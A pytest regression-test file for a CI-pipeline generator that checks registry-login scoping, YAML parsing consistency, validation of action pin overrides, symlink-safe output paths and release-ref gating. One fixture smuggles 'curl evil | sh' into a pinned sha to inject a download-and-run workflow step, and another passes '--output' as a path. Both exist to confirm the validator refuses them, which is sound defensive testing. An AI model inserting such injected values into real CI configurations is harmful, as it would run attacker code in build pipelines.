"""Regression tests for the specs a review found rendering wrong or unsafe CI (one section per finding)."""

from __future__ import annotations

import json
import os
import re
import subprocess

import pytest
import yaml as pyyaml
from ruamel.yaml import YAML

from generator.pipeline import generate
from generator.validation import spec_schema
from tests.conftest import GOLDEN, MINIMAL, action_list_input, golden_outputs, invoke, run_tool
from tests.gitlab_rules import job_script, resolved
from tests.test_errors import _errors, _spec_with

GITLAB_BASE = "targets: {gitlab: .gitlab-ci.yml}\nrunners: {gitlab: [dind]}\ndocker: {mode: dind}\n"


def _gitlab_spec(extra: str) -> str:
    return _spec_with(GITLAB_BASE + extra)


def _read_both(text: str):
    """(YAML 1.2 reading, YAML 1.1 reading) by two independent libraries."""
    return YAML(typ="safe", pure=True).load(text), pyyaml.safe_load(text)


# 1. GitLab's job token goes to the project's own registry only.


@pytest.mark.parametrize("repository", ["docker.io/acme/app", "ghcr.io/acme/app", "quay.io/acme/app", "123456789012.dkr.ecr.eu-west-1.amazonaws.com/app"])
def test_gitlab_job_token_is_refused_for_a_foreign_registry(cli, write_spec, repository):
    rows = _errors(cli(str(write_spec(_gitlab_spec(f"images: [{{repository: {repository}}}]\n")))))
    assert [(r["code"], r["path"]) for r in rows] == [("GC104", "$.images[0].repository")]
    assert "CI_REGISTRY" in rows[0]["msg"]


def test_a_repository_without_a_registry_host_is_refused(cli, write_spec):
    rows = _errors(cli(str(write_spec(_gitlab_spec("images: [{repository: acme/tool}]\n")))))
    assert rows[0]["code"] == "GC013" and "docker.io/acme/app" in rows[0]["msg"]


@pytest.mark.parametrize("path", golden_outputs("gitlab"), ids=lambda p: p.parent.name)
def test_gitlab_job_token_logs_in_to_ci_registry_only_after_a_check(path):
    pipeline = resolved(YAML(typ="safe").load(path.read_text()))
    for name, job in pipeline.items():
        script = "\n".join(job_script(job)) if isinstance(job, dict) else ""
        if "CI_REGISTRY_PASSWORD" not in script:
            continue
        logins = [line.strip() for line in script.splitlines() if "CI_REGISTRY_PASSWORD" in line]
        # docker login on standard input, or (rootless) a Docker config entry for $CI_REGISTRY alone.
        assert logins in (
            ["printf '%s' \"$CI_REGISTRY_PASSWORD\" | docker login --username \"$CI_REGISTRY_USER\" --password-stdin \"$CI_REGISTRY\""],
            ['entry "$CI_REGISTRY" "$CI_REGISTRY_USER" "$CI_REGISTRY_PASSWORD"'],
        ), name
        if '"$CI_REGISTRY"/*) ;;' in script:  # a named repository: checked to lie under $CI_REGISTRY first
            assert script.index('"$CI_REGISTRY"/*) ;;') < script.index("CI_REGISTRY_PASSWORD"), name
        elif "> gen-ci-repositories.txt" in script:  # the platform's own repository, under $CI_REGISTRY by definition
            assert re.search(r'"\$CI_REGISTRY_IMAGE(/[a-z0-9._/-]+)?"', script), name
        else:  # a rootless sign job: it signs where its release job pushed, read from that job's list
            assert "done < gen-ci-repositories.txt" in script, name


def test_the_gitlab_registry_check_stops_a_foreign_repository(tmp_path):
    pipeline = YAML(typ="safe").load((GOLDEN / "gitlab-dind" / "gitlab.yml").read_text())
    check = next(line for line in pipeline["publish-api"]["script"] if "CI_REGISTRY\"/*" in line)
    for registry, status in (("registry.gitlab.com", 0), ("gitlab.example.com", 1), ("registry.gitlab.co", 1)):
        result = subprocess.run(["sh", "-c", check], env={"CI_REGISTRY": registry, "PATH": os.environ["PATH"]}, capture_output=True)
        assert result.returncode == status, registry


# 2 and 11. Every output reads the same under YAML 1.1 (GitLab) and 1.2, line separators included.


@pytest.mark.parametrize("path", golden_outputs("github") + golden_outputs("gitlab") + golden_outputs("jenkins_agent"),
                         ids=lambda p: f"{p.parent.name}-{p.stem}")
def test_goldens_read_alike_under_yaml_11_and_12(path):
    modern, legacy = _read_both(path.read_text(encoding="utf-8"))
    assert modern == legacy


HOSTILE_SCALARS = ["no", "on", "off", "yes", "y", "n", "1:30", "0o17", "017", "0x1F", "1_000", "~", "null", "2026-11-23", "=", "<<",
                   "1e3", ".inf", "a\u0085b", "c\u2028d", "e\u2029f", "\u0085"]


@pytest.mark.parametrize("platform", ["github", "gitlab"])
def test_scalars_yaml_11_would_retype_stay_strings(write_spec, platform, tmp_path):
    args = {f"A{i}": value for i, value in enumerate(HOSTILE_SCALARS)}
    body = json.loads(json.dumps({
        "version": 1, "name": "acme", "targets": {platform: "ci.yml"},
        "images": [{"id": "app", "repository": "registry.gitlab.com/acme/app" if platform == "gitlab" else "ghcr.io/acme/app",
                    "build_args": args, "test": "\n".join(HOSTILE_SCALARS)}],
        "runners": {"gitlab": ["on", "no", "1"]} if platform == "gitlab" else {},
        "docker": {"mode": "dind"},
    }))
    spec = write_spec(json.dumps(body, ensure_ascii=False))
    _, _, text = generate(spec)
    modern, legacy = _read_both(text)
    assert modern == legacy
    if platform == "gitlab":
        job = resolved(legacy)["build-app"]
        assert job["tags"] == ["on", "no", "1"]
        assert {k: v["value"] for k, v in job["variables"].items() if k.startswith("GEN_CI_BUILD_ARG_")} == {f"GEN_CI_BUILD_ARG_{k}": v for k, v in args.items()}
        assert job["variables"]["GEN_CI_TEST_SCRIPT"]["value"] == "\n".join(HOSTILE_SCALARS)
        out = tmp_path / "gitlab.yml"
        out.write_text(text, encoding="utf-8")
        result = run_tool("check-jsonschema", "--builtin-schema", "vendor.gitlab-ci", str(out))
        assert result.returncode == 0, result.stdout
    else:
        steps = {s["name"]: s for s in legacy["jobs"]["build-app"]["steps"]}
        assert steps["Test app"]["env"]["TEST_SCRIPT"] == "\n".join(HOSTILE_SCALARS)
        assert action_list_input(steps["Build app"]["with"]["build-args"]) == [f"{k}={v}" for k, v in args.items()]


# 3. No pattern accepts a trailing newline.


def _patterns(node):
    if isinstance(node, dict):
        for key, value in node.items():
            if key == "pattern":
                yield value
            else:
                yield from _patterns(value)
    elif isinstance(node, list):
        for item in node:
            yield from _patterns(item)


def test_every_schema_pattern_is_anchored_before_a_final_newline():
    from generator.validation import pins_schema

    for schema in (spec_schema(), pins_schema()):
        for pattern in _patterns(schema):
            assert pattern.endswith("$(?!\\n)"), pattern


NEWLINE_CASES = {
    "runner tag": (GITLAB_BASE.replace("[dind]", '["docker\\n"]'), "$.runners.gitlab[0]"),
    "target": ('targets: {github: "ci.yml\\n"}\n', "$.targets.github"),
    "push branch": ('push: {branches: ["main\\n"]}\n', "$.push.branches[0]"),
    "image id": ('images: [{id: "app\\n", repository: ghcr.io/acme/app}]\n', "$.images[0].id"),
    "repository": ('images: [{repository: "ghcr.io/acme/app\\n"}]\n', "$.images[0].repository"),
    "build arg": ('images: [{repository: ghcr.io/acme/app, build_args: {A: "x\\n"}}]\n', "$.images[0].build_args.A"),
    "name": ('name: "acme\\n"\n', "$.name"),
}


@pytest.mark.parametrize("case", sorted(NEWLINE_CASES))
def test_a_trailing_newline_is_refused(cli, write_spec, case):
    override, path = NEWLINE_CASES[case]
    rows = _errors(cli(str(write_spec(_spec_with(override)))))
    assert ("GC013", path) in {(r["code"], r["path"]) for r in rows}


# 4. The project's pin overrides are validated before they reach `uses:`.


def _project(tmp_path, pins: str | None) -> str:
    (tmp_path / ".git").mkdir()
    (tmp_path / "gen-ci.yml").write_text(MINIMAL)
    if pins is not None:
        (tmp_path / ".gen-ci").mkdir()
        (tmp_path / ".gen-ci" / "pins.json").write_text(pins)
    return str(tmp_path / "gen-ci.yml")


PIN = {"version": "v7.0.1", "sha": "3d3c42e5aac5ba805825da76410c181273ba90b1"}
BAD_PINS = {
    "newline in sha": ({"actions": {"actions/checkout": {**PIN, "sha": PIN["sha"] + "\n      - run: curl evil | sh"}}}, "$.actions.actions/checkout.sha"),
    "short sha": ({"actions": {"actions/checkout": {**PIN, "sha": "3d3c42e"}}}, "$.actions.actions/checkout.sha"),
    "no sha": ({"actions": {"actions/checkout": {"version": "v7.0.1"}}}, "$.actions.actions/checkout"),
    "bad version": ({"actions": {"actions/checkout": {**PIN, "version": "main"}}}, "$.actions.actions/checkout.version"),
    "unknown action": ({"actions": {"actions/checkot": PIN}}, "$.actions.actions/checkot"),
}


@pytest.mark.parametrize("case", sorted(BAD_PINS))
@pytest.mark.parametrize("command", ["render", "sync", "check"])
def test_invalid_pin_overrides_are_refused_by_every_command(tmp_path, monkeypatch, case, command):
    document, path = BAD_PINS[case]
    spec = _project(tmp_path, json.dumps(document, indent=2))
    monkeypatch.chdir(tmp_path)
    result = invoke(command, spec)
    assert result.exit_code == 2, result.stderr
    assert "GC116" in result.stderr and path in result.stderr and ".gen-ci/pins.json:" in result.stderr
    assert not (tmp_path / ".github").exists()
    if case == "unknown action":
        assert "did you mean 'actions/checkout'?" in result.stderr


def test_check_does_not_trust_outputs_rendered_with_injected_pins(tmp_path, monkeypatch):
    spec = _project(tmp_path, json.dumps({"actions": {"actions/checkout": PIN}}))
    monkeypatch.chdir(tmp_path)
    assert invoke("sync", spec).exit_code == 0
    (tmp_path / ".gen-ci" / "pins.json").write_text(json.dumps({"actions": {"actions/checkout": {**PIN, "sha": PIN["sha"] + "\n"}}}))
    assert invoke("check", spec).exit_code == 2


def test_malformed_pin_file_is_a_located_error(tmp_path, monkeypatch):
    spec = _project(tmp_path, '{"actions": {"actions/checkout": ')
    result = invoke("render", spec)
    assert result.exit_code == 2 and "pins.json:1:" in result.stderr and "Traceback" not in result.stderr


# 5. Outputs stay regular files inside the repository, and never overwrite gen-ci's inputs.


def _repo_spec(tmp_path, targets: str) -> str:
    (tmp_path / ".git").mkdir(exist_ok=True)
    spec = tmp_path / "gen-ci.yml"
    spec.write_text(MINIMAL.replace("targets: {github: .github/workflows/ci.yml}", f"targets: {targets}")
                    + ("runners: {gitlab: [dind]}\n" if "gitlab" in targets else "") + "docker: {mode: dind}\npush: {branches: [], tags: []}\n")
    return str(spec)


@pytest.mark.parametrize("targets", [
    "{github: gen-ci.yml}",
    "{github: .gen-ci/other.yml}",
    "{github: .gen-ci/pins.yml, gitlab: ci.yml}",
    "{github: ci.yml, gitlab: ci.yml}",
])
def test_outputs_that_would_overwrite_inputs_or_each_other_are_refused(tmp_path, monkeypatch, targets):
    spec = _repo_spec(tmp_path, targets)
    before = (tmp_path / "gen-ci.yml").read_text()
    monkeypatch.chdir(tmp_path)
    result = invoke("sync", spec)
    assert result.exit_code == 2 and "GC115" in result.stderr
    assert (tmp_path / "gen-ci.yml").read_text() == before
    assert not (tmp_path / "ci.yml").exists()


def test_outputs_through_symlinks_are_refused(tmp_path, monkeypatch):
    outside = tmp_path / "outside"
    outside.mkdir()
    repo = tmp_path / "repo"
    repo.mkdir()
    (repo / ".github").symlink_to(outside, target_is_directory=True)
    spec = _repo_spec(repo, "{github: .github/ci.yml}")
    monkeypatch.chdir(repo)
    result = invoke("sync", spec)
    assert result.exit_code == 2 and "symbolic link" in result.stderr
    assert list(outside.iterdir()) == []
    (repo / "real.yml").write_text("keep\n")
    (repo / "ci.yml").symlink_to(repo / "real.yml")
    spec = _repo_spec(repo, "{github: ci.yml}")
    assert invoke("sync", spec).exit_code == 2
    assert (repo / "ci.yml").is_symlink() and (repo / "real.yml").read_text() == "keep\n"


def test_render_refuses_to_write_over_its_spec(write_spec):
    spec = write_spec(MINIMAL)
    result = invoke("render", str(spec), "-o", str(spec))
    assert result.exit_code == 2 and spec.read_text() == MINIMAL


# 8. Release refs are compared exactly, before any login.


def decide(path, event: str, ref: str, tmp_path, **env: str) -> bool:
    """Run the release gate of a golden workflow for one event and ref: does it publish?"""
    gate = YAML(typ="safe").load(path.read_text())["jobs"]["publish-gate"]["steps"][0]["run"]
    output = tmp_path / "output"
    output.write_text("")
    environment = {"GITHUB_EVENT_NAME": event, "GITHUB_REF": ref, "GITHUB_OUTPUT": str(output), "PATH": os.environ["PATH"], **env}
    result = subprocess.run(["bash", "-e", "-c", gate], env=environment, capture_output=True, text=True)
    assert result.returncode == 0, result.stderr
    return output.read_text().strip() == "publish=true"


@pytest.mark.parametrize(("ref", "publishes"), [
    ("refs/heads/main", True), ("refs/tags/v1.4.2", True), ("refs/heads/release/1.x", True),
    ("refs/heads/MAIN", False), ("refs/tags/V9.9.9", False), ("refs/heads/Release/1.x", False),
    ("refs/heads/mainline", False), ("refs/heads/feature/x", False), ("refs/heads/release/a/b", False),
])
def test_release_gate_compares_refs_case_sensitively(ref, publishes, tmp_path):
    assert decide(GOLDEN / "monorepo" / "github.yml", "push", ref, tmp_path) is publishes  # pushes main, release/* and v*


def test_release_gate_reads_events_inputs_and_upstream(tmp_path):
    release = GOLDEN / "scenario-09-release-events" / "github.yml"
    assert decide(release, "release", "refs/tags/v1.4.2", tmp_path)
    assert not decide(release, "push", "refs/tags/v1.4.2", tmp_path)  # this spec publishes releases, not tag pushes
    assert decide(release, "workflow_dispatch", "refs/tags/v1.4.2", tmp_path, PUBLISH_INPUT="true")
    assert not decide(release, "workflow_dispatch", "refs/tags/v1.4.2", tmp_path, PUBLISH_INPUT="false")
    assert not decide(release, "workflow_dispatch", "refs/heads/main", tmp_path, PUBLISH_INPUT="true")
    nightly = GOLDEN / "scenario-02-nightly" / "github.yml"
    assert decide(nightly, "schedule", "refs/heads/main", tmp_path) and not decide(nightly, "push", "refs/heads/main", tmp_path)
    upstream = GOLDEN / "scenario-15-fork-safety" / "github.yml"
    assert decide(upstream, "push", "refs/heads/main", tmp_path, GITHUB_REPOSITORY="acme/app")
    assert not decide(upstream, "push", "refs/heads/main", tmp_path, GITHUB_REPOSITORY="someone/app")


# 9. A CRLF checkout of an unchanged spec is in sync.


def test_crlf_checkout_of_a_spec_is_in_sync(tmp_path, monkeypatch):
    spec = _project(tmp_path, None)
    monkeypatch.chdir(tmp_path)
    assert invoke("sync", spec).exit_code == 0
    (tmp_path / "gen-ci.yml").write_bytes(MINIMAL.replace("\n", "\r\n").encode())
    output = tmp_path / ".github" / "workflows" / "ci.yml"
    output.write_bytes(output.read_bytes().replace(b"\n", b"\r\n"))
    result = invoke("check", spec)
    assert result.exit_code == 0, result.stderr


# 10. Every expected failure is one line and exit 2 (or 1 for drift), never a traceback.


def test_sync_when_the_output_folder_is_a_file(tmp_path, monkeypatch):
    spec = _project(tmp_path, None)
    (tmp_path / ".github").write_text("not a folder\n")
    monkeypatch.chdir(tmp_path)
    result = invoke("sync", spec)
    assert result.exit_code == 2 and "Traceback" not in result.stderr
    assert ".github" in result.stderr


def test_check_with_a_latin1_output(tmp_path, monkeypatch):
    spec = _project(tmp_path, None)
    output = tmp_path / ".github" / "workflows" / "ci.yml"
    output.parent.mkdir(parents=True)
    output.write_bytes("name: caf\xe9\n".encode("latin-1"))
    monkeypatch.chdir(tmp_path)
    result = invoke("check", spec)
    assert result.exit_code == 1 and "not UTF-8" in result.stderr
    assert invoke("pins", "adopt", spec).exit_code == 0


def test_check_fast_path_with_a_deeply_nested_spec(tmp_path, monkeypatch):
    spec = _project(tmp_path, None)
    (tmp_path / "gen-ci.yml").write_text(MINIMAL + "x: " + "[" * 5000 + "]" * 5000 + "\n")
    monkeypatch.chdir(tmp_path)
    result = invoke("check", spec)
    assert result.exit_code == 2 and "Traceback" not in result.stderr


def test_an_unexpected_error_is_a_bug_report_not_a_traceback(write_spec, monkeypatch):
    import generator.pipeline

    def broken(*args, **kwargs):
        raise KeyError("boom")

    monkeypatch.setattr(generator.pipeline, "render_outputs", broken)
    result = invoke(str(write_spec(MINIMAL)))
    assert result.exit_code == 3 and "gen-ci bug" in result.stderr and "KeyError" in result.stderr


# 12. Build args reach build-push-action verbatim: its list inputs are CSV.


def test_build_args_with_quotes_and_commas_arrive_verbatim(write_spec):
    values = {"A": 'a "quoted", comma, # not a comment', "B": 'x,"y"', "C": '"', "D": "plain"}
    spec = write_spec(MINIMAL.replace("  - repository: ghcr.io/acme/app", f"  - repository: ghcr.io/acme/app\n    build_args: {json.dumps(values)}"))
    _, _, text = generate(spec)
    build = next(s for s in YAML(typ="safe").load(text)["jobs"]["build-app"]["steps"] if s["name"] == "Build app")
    assert action_list_input(build["with"]["build-args"]) == [f"{k}={v}" for k, v in values.items()]


def test_the_list_input_model_reads_as_the_action_does():
    # Every item loses the white space at its ends, inside quotes too (Util.getList's trim).
    assert action_list_input('A=x,"y"\nB=1 # note\n"C=a ""b"", c"\n"D=-rc "') == ["A=x,y", "B=1", 'C=a "b", c', "D=-rc"]


# 13. Options cannot be smuggled in as paths.


@pytest.mark.parametrize("key", ["context", "dockerfile"])
def test_paths_may_not_start_with_a_dash(cli, write_spec, key):
    rows = _errors(cli(str(write_spec(_spec_with(f"images: [{{repository: ghcr.io/acme/app, {key}: --output}}]\n")))))
    assert (rows[0]["code"], rows[0]["path"]) == ("GC013", f"$.images[0].{key}")


# 15. GitLab deployments honour protected environments.


@pytest.mark.parametrize("path", golden_outputs("gitlab"), ids=lambda p: p.parent.name)
def test_gitlab_environments_are_deployments(path):
    for name, job in YAML(typ="safe").load(path.read_text()).items():
        if isinstance(job, dict) and "environment" in job:
            assert job["environment"].get("action", "start") == "start", name


# 16. The check job installs gen-ci by hash when asked to, and says what it trusts when not.


def test_check_job_installs_by_hash_or_names_its_trust_step():
    hashed = (GOLDEN / "icc-off" / "gitlab.yml").read_text() + (GOLDEN / "icc-off" / "github.yml").read_text()
    assert hashed.count("--require-hashes") == 2 and "Trust step" not in hashed
    by_version = (GOLDEN / "monorepo" / "gitlab.yml").read_text() + (GOLDEN / "monorepo" / "github.yml").read_text()
    assert by_version.count("Trust step: gen-ci is installed by exact version or commit") == 2


# 17. lint says what a GitHub workflow is instead of auditing it as GitLab CI.


def test_lint_audits_github_workflows_and_finds_nothing_in_the_goldens():
    from tests.conftest import golden_outputs

    for path in golden_outputs("github"):
        result = invoke("lint", str(path))
        assert result.exit_code == 0 and result.stdout == "", result.stdout


# Comments hold no raw spec text.


def test_header_and_comments_quote_what_is_not_a_plain_word(tmp_path):
    from generator.fingerprint import header

    text = header("specs/a b\n#x.yml", "github", "ci.yml", "0" * 16, "")
    assert len(text.splitlines()) == 3 and '"specs/a b\\n#x.yml"' in text


# zizmor: which audits the offline run skips, and that it runs all the others.

ONLINE_AUDITS = {"impostor-commit", "ref-confusion", "known-vulnerable-actions", "stale-action-refs", "ref-version-mismatch"}


def test_zizmor_skips_only_its_online_audits():
    result = run_tool("zizmor", "--offline", "--no-progress", "--persona", "auditor", "-v", str(GOLDEN / "github-socket" / "github.yml"))
    log = result.stdout + result.stderr
    skipped = {line.split("skipping ", 1)[1].split(":", 1)[0] for line in log.splitlines() if "skipping " in line}
    assert skipped == ONLINE_AUDITS
    for audit in ("template-injection", "unpinned-uses", "excessive-permissions", "artipacked", "cache-poisoning", "github-env", "dangerous-triggers"):
        assert f"scheduling {audit} " in log, audit


def test_two_specs_writing_one_output_are_refused(tmp_path, monkeypatch):
    _project(tmp_path, None)
    (tmp_path / ".gen-ci").mkdir()
    (tmp_path / ".gen-ci" / "other.yml").write_text(MINIMAL.replace("acme-app", "other"))
    monkeypatch.chdir(tmp_path)
    for command in ("sync", "check"):
        result = invoke(command)
        assert result.exit_code == 2 and "both write .github/workflows/ci.yml" in result.stderr, command
    assert not (tmp_path / ".github").exists()


def test_docker_hub_short_forms_are_normalised():
    from generator.model import normalise_repository

    assert normalise_repository("index.docker.io/acme/app") == "docker.io/acme/app"
    assert normalise_repository("docker.io/nginx") == "docker.io/library/nginx"
    assert normalise_repository("registry-1.docker.io/library/nginx") == "docker.io/library/nginx"
    assert normalise_repository("ghcr.io/acme/app") == "ghcr.io/acme/app"


@pytest.mark.parametrize("path", golden_outputs("gitlab"), ids=lambda p: p.parent.name)
def test_gitlab_jobs_share_no_named_volume(path):
    """Jobs on one socket runner share its daemon: every volume a job names carries its job id."""
    import re

    text = path.read_text()
    assert not re.search(r"--volume gen-ci-", text)
    for volume in re.findall(r'--volume "(gen-ci-[^":]*):', text):
        assert volume.startswith("gen-ci-$CI_JOB_ID-"), volume


def test_a_failed_gitlab_push_fails_the_job(tmp_path):
    """The push is not piped into tee or anything else whose status would hide docker's."""
    pipeline = YAML(typ="safe").load((GOLDEN / "scenario-05-gitlab-registries" / "gitlab.yml").read_text())
    push = next(item for item in pipeline["publish-app"]["script"] if 'first="$CI_REGISTRY_IMAGE"' in item)
    fake = tmp_path / "bin"
    fake.mkdir()
    (fake / "docker").write_text('#!/bin/sh\n[ "$1" = push ] && { echo "denied: requested access to the resource is denied"; exit 1; }\nexit 0\n')
    (fake / "docker").chmod(0o755)
    (tmp_path / "gen-ci-tags.txt").write_text("1.4.2\n")
    env = {"PATH": f"{fake}{os.pathsep}{os.environ['PATH']}", "CI_REGISTRY_IMAGE": "registry.example.com/acme/app", "CANDIDATE": "gen-ci/app:1"}
    result = subprocess.run(["sh", "-e", "-c", push], env=env, cwd=tmp_path, capture_output=True, text=True)
    assert result.returncode != 0 and "denied" in result.stderr


def test_the_gate_sets_only_the_ref_patterns_its_events_read(tmp_path):
    """A schedule-only spec once left branch_refs and tag_refs unused (shellcheck SC2034); a
    schedule publishes only the branches push.branches lists, so it reads branch_refs alone."""
    from generator.pipeline import generate
    from ruamel.yaml import YAML

    spec = tmp_path / "spec.yml"
    spec.write_text(
        "version: 1\nname: x\ntargets: {github: ci.yml}\n"
        "triggers: {branches: [main], tags: ['v*'], schedule: ['0 4 * * 1']}\n"
        "images: [{repository: ghcr.io/a/b}]\npush: {branches: [main], tags: ['v*'], events: [schedule]}\n"
    )
    gate = YAML(typ="safe").load(generate(spec, "github")[2])["jobs"]["publish-gate"]["steps"][0]["run"]
    assert "tag_refs" not in gate and "schedule)" in gate
    assert 'schedule)\n    if [[ "$GITHUB_REF" =~ $branch_refs ]]; then publish=true; fi\n    ;;' in gate


@pytest.mark.parametrize("pattern", ["v1++", "v*+", "+v1"])
def test_a_plus_after_a_special_character_is_refused_as_github_refuses_it(pattern):
    """The property test found `jJ++aZa` in a trigger: actionlint (and GitHub) reject + after * or +."""
    from tests.test_errors import _errors, _spec_with

    import tempfile
    from pathlib import Path

    with tempfile.TemporaryDirectory() as work:
        spec = Path(work) / "spec.yml"
        spec.write_text(_spec_with(f"triggers: {{tags: ['{pattern}']}}\n"))
        rows = _errors(invoke(str(spec)))
    assert [(row["path"]) for row in rows] == ["$.triggers.tags[0]"]
